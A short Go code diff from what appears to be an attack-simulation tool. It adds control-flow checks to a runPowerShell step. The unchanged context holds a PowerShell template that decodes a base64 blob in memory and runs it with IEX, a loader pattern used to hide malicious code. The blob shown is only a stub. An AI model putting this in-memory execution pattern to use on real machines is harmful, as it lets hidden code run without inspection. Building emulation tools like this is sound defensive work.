@@ -124,6 +124,11 @@ func runPowerShell(a *Attempt) Progress {
 		return failure("%s", errNoWindows)
 	}
 	c2 := a.c2()
+	if r, played := a.playFurther(f); !r.OK() {
+		return blocked(r)
+	} else if played {
+		return success("%s on %s", a.Tool, f.Host.Name)
+	}
 	switch a.Tool {
 	case "encoded command":
 		script := "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAA'));IEX (New-Object IO.StreamReader($s)).ReadToEnd()"
